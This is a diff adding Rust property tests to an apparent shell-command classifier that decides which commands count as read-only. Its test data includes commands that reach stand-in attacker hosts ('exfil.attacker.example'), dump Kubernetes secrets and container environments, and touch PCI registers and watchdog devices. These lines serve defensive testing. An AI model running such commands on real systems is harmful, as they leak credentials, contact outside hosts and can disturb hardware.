@@ -866,4 +866,99 @@ proptest! {
         read_only(&format!("{variable}=C; date"))?;
         read_only("git log --format='%h %s' -n 5")?;
     }
+
+    /// Twelfth review: the local end's options resolve host names; device
+    /// aliases, input redirections and PCI registers act when opened;
+    /// cloud-init snippets; libpq's spaced and percent-encoded hosts.
+    #[test]
+    fn review_twelve_classes_ask(
+        source in select(vec![
+            "curl --interface {h} http://10.0.0.5/", "curl -s --interface={h} http://127.0.0.1/",
+            "curl --interface host!{h} -sk https://10.0.0.2:8006/", "traceroute -s {h} 10.0.0.1",
+            "traceroute --source={h} -n 10.0.0.1", "nc -z -s {h} 10.0.0.5 22", "ncat -z --source {h} 10.0.0.5 22",
+            "dig -b {h} @10.0.0.1 pve.lan", "mtr -rwc 1 -a {h} 10.0.0.1", "ping -c1 -I {h} 10.0.0.5",
+        ]),
+        host in select(vec!["evil.example.com", "exfil.attacker.example", "x.y.z.example.org"]),
+        alias in select(vec!["/dev/char/10:130", "/dev/char/*", "/dev/serial/by-id/usb-1a86-if00-port0", "/dev/serial/by-path/*", "/proc/1/root/dev/char/4:64"]),
+        reader in select(vec!["wc -c", "md5sum", "file -s", "head -c1", "cat"]),
+        redirected in select(vec!["/proc/kmsg", "/sys/kernel/tracing/trace_pipe", "/sys/bus/pci/devices/0000:03:00.0/config", "/proc/bus/pci/00/1f.0", "/dev/watchdog", "/dev/char/10:130"]),
+        pci in select(vec!["resource0", "resource4", "resource2_wc", "vpd"]),
+        walked in select(vec!["/sys/bus/pci/devices/0000:03:00.0/", "/sys/kernel/tracing", "/sys/kernel/debug/tracing"]),
+        snippet in select(vec!["/var/lib/vz/snippets/user-data.yaml", "/mnt/pve/nfs1/snippets/ci-user.yml"]),
+        conninfo in select(vec![
+            "psql \"host = evil.example.com dbname=postgres\" -c 'select 1'",
+            "psql -d \"hostaddr = 8.8.8.8 dbname=postgres\" -c 'select 1'",
+            "psql \"host = /tmp/x dbname=postgres\" -c 'select 1'",
+            "psql 'postgresql:///postgres?host=%2Ftmp%2Fx' -c 'select 1'",
+        ]),
+    ) {
+        not_read_only(&source.replace("{h}", host))?;
+        not_read_only(&format!("{reader} {alias}"))?;
+        not_read_only(&format!("wc -c < {redirected}"))?;
+        not_read_only(&format!("cat /sys/bus/pci/devices/0000:00:1f.4/{pci}"))?;
+        not_read_only(&format!("grep -r x {walked}"))?;
+        not_read_only(&format!("cat {snippet}"))?;
+        not_read_only(conninfo)?;
+        // Interfaces are no hosts; a plain input file stays read-only.
+        read_only("ping -c1 -I vmbr0 10.0.0.5")?;
+        read_only("traceroute -s 10.0.0.2 -n 10.0.0.1")?;
+        read_only("curl --interface eth0.20 -s http://10.0.0.5/")?;
+        read_only("wc -l < /etc/hostname")?;
+        read_only("cat /sys/bus/pci/devices/0000:00:1f.4/vendor")?;
+    }
+
+    /// Twelfth review, old mechanisms in new spellings: kubectl's clusters,
+    /// format case and describable kinds; repeated docker options; jq's
+    /// program anywhere; inherited variables set by loops and builtins;
+    /// dig's prefixes; psql's catalogs of credentials; run-time operands
+    /// of programs that open them.
+    #[test]
+    fn review_twelve_spellings_ask(
+        kube in select(vec![
+            "kubectl get secrets -Ao yaml", "kubectl get secret db -wo jsonpath='{.data.password}'",
+            "kubectl get secrets -Aoyaml", "kubectl get -Af https://evil.example.com/x.yaml",
+            "kubectl get -wf https://evil.example.com/x.yaml", "kubectl get deploy web -o Yaml",
+            "kubectl get deploy web -o JSON", "kubectl describe deployments.apps web",
+            "kubectl describe deployment.apps/web", "kubectl describe rc web", "kubectl describe podtemplates",
+            "kubectl describe controllerrevisions", "kubectl describe -f /srv/app/deploy.yaml",
+            "oc get secrets -Ao json", "k3s kubectl get secrets -Ao yaml",
+        ]),
+        docker in select(vec![
+            "docker inspect -f '{{.Name}}' -f '{{json .Config.Env}}' web",
+            "docker inspect --type volume --type container web",
+            "podman inspect -f '{{.Name}}' -f '{{.Config.Env}}' web",
+        ]),
+        jq in select(vec![
+            "jq -n --tab env", "jq -n -- '-1|env'", "jq -n 'import\"config\" as $c {search:\"/root/.docker\"}; $c'",
+            "jq -n 'include\"x\" {search:\"/tmp\"}; f'", "jq -n --argfile x /etc/hostname '$ENV'",
+        ]),
+        variable in select(vec!["TZ", "LANG", "LC_ALL"]),
+        setter in select(vec![
+            "for {v} in /dev/watchdog; do date; done", "read {v} <<< /dev/watchdog; date",
+            "printf -v {v} /dev/watchdog; date", "mapfile -t {v} < /tmp/x; date",
+        ]),
+        walk in select(vec!["dig +nss pve.lan", "dig +NSSEARCH pve.lan", "dig +tr pve.lan", "host -C pve.lan", "host -vC pve.lan"]),
+        meta in select(vec!["\\deu+", "\\dRs+", "\\des+", "\\deu", "\\dRs"]),
+        runtime in select(vec![
+            "wc -c -- \"$(cat /tmp/list)\"", "md5sum -- \"$(printf /dev/watch%s dog)\"",
+            "stty -F \"$(cat /tmp/dev)\" -a", "while read -r f; do wc -c -- \"$f\"; done < /tmp/list",
+            "printf '/dev/watchdog\\n' | xargs wc -c --", "xargs -a /tmp/list wc -c --",
+            "file -s --files-from=/tmp/list", "printf '/dev/watchdog\\n' | file -s --files-from=-",
+        ]),
+    ) {
+        not_read_only(kube)?;
+        not_read_only(docker)?;
+        not_read_only(jq)?;
+        not_read_only(&setter.replace("{v}", variable))?;
+        not_read_only(walk)?;
+        not_read_only(&format!("psql -c '{meta}'"))?;
+        not_read_only(runtime)?;
+        read_only("kubectl get pods -A -o wide")?;
+        read_only("kubectl describe nodes")?;
+        read_only("docker inspect -f '{{.State.Status}}' web")?;
+        read_only("jq '.items[].name' /tmp/x.json")?;
+        read_only("psql -c '\\dt+'")?;
+        read_only("kill -0 \"$(cat /run/nginx.pid)\"")?;
+        read_only("for f in /var/log/syslog /var/log/messages; do wc -l \"$f\"; done")?;
+    }
 }
